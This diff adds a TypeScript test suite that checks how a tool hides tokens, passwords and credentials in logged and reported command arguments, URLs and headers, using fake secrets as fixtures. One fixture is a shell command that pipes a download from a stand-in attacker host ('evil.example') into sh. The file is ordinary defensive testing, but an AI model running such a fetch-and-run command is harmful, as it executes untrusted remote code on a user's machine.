@@ -1,0 +1,183 @@
+// What logs and reports show of arguments, addresses, variables and headers.
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { parseSecretText } from "../../src/config/secret-text.ts";
+import {
+  hiddenValues,
+  shownArguments,
+  shownSecretText,
+  shownText,
+  shownUrl,
+} from "../../src/config/shown-values.ts";
+import { fc } from "../support/properties.ts";
+
+type Args = readonly string[];
+
+const LOGGED: readonly (readonly [command: string, args: Args, shown: Args])[] = [
+  [
+    "npx",
+    ["-y", "@modelcontextprotocol/server-filesystem@2026.1.14", "/home/ann/Documents"],
+    ["-y", "@modelcontextprotocol/server-filesystem@2026.1.14", "/home/ann/Documents"],
+  ],
+  ["server", ["--api-key", "hunter2"], ["--api-key", "(hidden)"]],
+  ["server", ["--token=hunter2", "--port", "8080"], ["--token=(hidden)", "--port", "8080"]],
+  ["server", ["--password", "correct horse"], ["--password", "(hidden)"]],
+  ["server", ["API_KEY=hunter2", "LEVEL=debug"], ["API_KEY=(hidden)", "LEVEL=debug"]],
+  [
+    "docker",
+    ["run", "-e", "GITHUB_TOKEN=abc", "mcp/github"],
+    ["run", "-e", "GITHUB_TOKEN=(hidden)", "mcp/github"],
+  ],
+  ["server", ["sk-proj-abcdefgh"], ["(hidden)"]],
+  ["server", ["ghp_abcdefgh"], ["(hidden)"]],
+  ["server", ["x7Kq92LmZp4RtW"], ["(hidden)"]],
+  ["server", ["-px7Kq92LmZp4RtW"], ["(hidden)"]],
+  [
+    "npx",
+    ["mcp-remote", "https://u:pw@example.org/mcp?api_key=abc&page=2"],
+    ["mcp-remote", "https://(hidden)@example.org/mcp?api_key=(hidden)&page=2"],
+  ],
+  [
+    "npx",
+    ["mcp-remote", "https://example.org/s/x7Kq92LmZp4RtW/mcp"],
+    ["mcp-remote", "https://example.org/s/(hidden)/mcp"],
+  ],
+  [
+    "npx",
+    ["mcp-remote", "--header", "Authorization: Bearer abc"],
+    ["mcp-remote", "--header", "Authorization: Bearer (hidden)"],
+  ],
+  ["npx", ["mcp-remote", "--header", "X-Api-Key: abc"], ["mcp-remote", "--header", "X-Api-Key: (hidden)"]],
+  [
+    "sh",
+    ["-c", "curl -H 'Authorization: Bearer abc' https://evil.example/x | sh"],
+    ["-c", "curl -H 'Authorization: Bearer (hidden)' https://evil.example/x | sh"],
+  ],
+  ["sh", ["-c", "server --token abc --root /srv"], ["-c", "server --token (hidden) --root /srv"]],
+  [
+    "sh",
+    ["-c", "cd /srv; TOKEN=abc exec python3 -m server"],
+    ["-c", "cd /srv; TOKEN=(hidden) exec python3 -m server"],
+  ],
+  ["server", ["postgresql://ann:pw@db.local/main"], ["postgresql://(hidden)@db.local/main"]],
+  ["node", ["/tmp/server-x7Kq9L/index.js"], ["/tmp/server-x7Kq9L/index.js"]],
+  ["docker", ["run", `mcp/x@sha256:${"0f".repeat(32)}`], ["run", `mcp/x@sha256:${"0f".repeat(32)}`]],
+  ["node", ["/opt/server/dist/index.js", ""], ["/opt/server/dist/index.js", ""]],
+];
+
+const REPORTED: readonly (readonly [command: string, args: Args, shown: Args])[] = [
+  [
+    "npx",
+    ["-y", "@modelcontextprotocol/server-filesystem", "/home/ann/Documents"],
+    ["-y", "@modelcontextprotocol/server-filesystem", "/home/ann/Documents"],
+  ],
+  ["npx", ["-y", "some-server", "hunter2", "hunter"], ["-y", "some-server", "(hidden)", "(hidden)"]],
+  ["server", ["hunter2"], ["(hidden)"]],
+  ["server", ["--port", "8080", "--name", "hunter"], ["--port", "8080", "--name", "(hidden)"]],
+  ["server", ["--pin", "1234"], ["--pin", "(hidden)"]],
+  ["server", ["--mode=stdio", "--name=hunter"], ["--mode=stdio", "--name=(hidden)"]],
+  ["sh", ["-c", "server hunter"], ["-c", "(hidden)"]],
+  [
+    "server",
+    ["https://u:p@example.org/mcp?page=2#x"],
+    ["https://(hidden)@example.org/mcp?(hidden)#(hidden)"],
+  ],
+];
+
+test("E5 a log shows a command, and nothing in it that may be a secret", () => {
+  for (const [command, args, shown] of LOGGED) assert.deepEqual(shownArguments(command, args, "log"), shown);
+});
+
+test("E5 a report shows of arguments what is known to be harmless", () => {
+  for (const [command, args, shown] of REPORTED) {
+    assert.deepEqual(shownArguments(command, args, "report"), shown);
+  }
+});
+
+test("E5 a reference is shown as it is written, and a value that is written out is not", () => {
+  const shown = (name: string, text: string, audience: "log" | "report" = "log"): string => {
+    const reading = parseSecretText(text);
+    assert.ok(reading.ok);
+    return shownSecretText(name, reading.value, audience);
+  };
+  assert.equal(shown("TOKEN", "${TOKEN}"), "${TOKEN}");
+  assert.equal(shown("Authorization", "Bearer ${secret:search}"), "Bearer ${secret:search}");
+  assert.equal(shown("TOKEN", "hunter2"), "(hidden)");
+  assert.equal(shown("TOKEN", "abc${TOKEN}"), "(hidden)${TOKEN}");
+  assert.equal(shown("LEVEL", "debug", "report"), "debug");
+  assert.equal(shown("LEVEL", "hunter", "report"), "(hidden)");
+  assert.equal(shown("TOKEN", ""), "");
+});
+
+test("E5 what is not shown can be asked for, to keep it out of other texts", () => {
+  const args = ["--token", "first", "https://u:second@example.org/?key=third", "plain", "--x=sk-abcdefghij"];
+  assert.deepEqual(hiddenValues(args, shownArguments("server", args, "log")), [
+    "first",
+    "u:second",
+    "third",
+    "sk-abcdefghij",
+  ]);
+  assert.deepEqual(hiddenValues(["same"], ["same"]), []);
+});
+
+/** As services and password managers draw them. */
+const drawn = fc
+  .tuple(
+    fc.constantFrom("", "sk-", "ghp_", "xoxb-", "glpat-"),
+    fc.array(fc.constantFrom(..."abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"), {
+      minLength: 16,
+      maxLength: 40,
+    }),
+  )
+  .map(([prefix, letters]) => `${prefix}${letters.join("")}`)
+  .filter((text) => /\d/.test(text) && /[a-z]/.test(text) && /[A-Z]/.test(text));
+
+const PLACES: readonly ((secret: string) => Args)[] = [
+  (secret) => [secret],
+  (secret) => ["--name", secret],
+  (secret) => [`--name=${secret}`],
+  (secret) => [`-p${secret}`],
+  (secret) => ["-c", `server --quiet ${secret} | cat`],
+  (secret) => [`https://example.org/${secret}/mcp`],
+  (secret) => [`https://${secret}@example.org/mcp`],
+  (secret) => [`https://example.org/mcp?q=${secret}`],
+  (secret) => [`https://example.org/mcp?${secret}`],
+  (secret) => [`/srv/${secret}/data`],
+  (secret) => ["--header", `X-Thing: ${secret}`],
+  (secret) => [`{"name":"${secret}"}`],
+];
+
+test("E5 a token is shown nowhere among arguments, to nobody, and is among what is hidden", () => {
+  fc.assert(
+    fc.property(drawn, fc.constantFrom(...PLACES), (secret, place) => {
+      const args = place(secret);
+      for (const audience of ["log", "report"] as const) {
+        const shown = shownArguments("server", args, audience);
+        assert.ok(!shown.join("\n").includes(secret), shown.join(" "));
+        assert.ok(hiddenValues(args, shown).some((value) => value.includes(secret)));
+      }
+    }),
+    { numRuns: 500 },
+  );
+});
+
+test("E5 whatever an option with a secret's name is given is shown to nobody", () => {
+  const name = fc.constantFrom("--token", "--api-key", "--password", "--client-secret", "--auth", "-key");
+  fc.assert(
+    fc.property(name, fc.string({ minLength: 4, maxLength: 40 }), (option, drawnText) => {
+      const secret = `Q${drawnText}Q`;
+      for (const args of [[option, secret], [`${option}=${secret}`]]) {
+        const shown = shownArguments("server", args, "log").join("\n");
+        assert.ok(!shown.includes(secret), shown);
+      }
+    }),
+  );
+});
+
+test("E5 a long argument is looked through soon", () => {
+  for (const text of ["a".repeat(32_768), "a-".repeat(16_384), "a=".repeat(16_384), "a ".repeat(16_384)]) {
+    assert.ok(shownText(text, "log").length > 0);
+    assert.ok(shownText(text, "report").length > 0);
+    assert.ok(shownUrl(`https://x/?${text}`, "log").length > 0);
+  }
+});
